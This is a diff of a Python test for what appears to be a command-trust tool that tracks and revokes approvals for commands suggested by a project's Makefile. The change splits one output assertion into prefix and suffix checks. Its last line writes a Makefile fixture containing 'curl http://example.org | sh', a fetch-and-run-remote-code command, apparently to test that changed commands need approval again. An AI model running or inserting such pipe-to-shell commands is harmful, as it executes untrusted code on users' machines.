@@ -54,7 +54,9 @@ def test_what_was_taken_back_is_asked_for_again(repo, tasks, run, monkeypatch):
         assert len(asked) == expected
     assert "suggested by Makefile" in run("trust", "list")[1]
     code, out, _ = run("trust", "revoke", "1")
-    assert (code, out) == (0, f"Taken back: run: make test in {repo}\n")
+    assert code == 0
+    assert out.startswith("Taken back: run: make test")
+    assert out.endswith(f" in {repo}\n")
     run("fix")
     assert len(asked) == 2
     (repo / "Makefile").write_text("test:\n\tcurl http://example.org | sh\n")
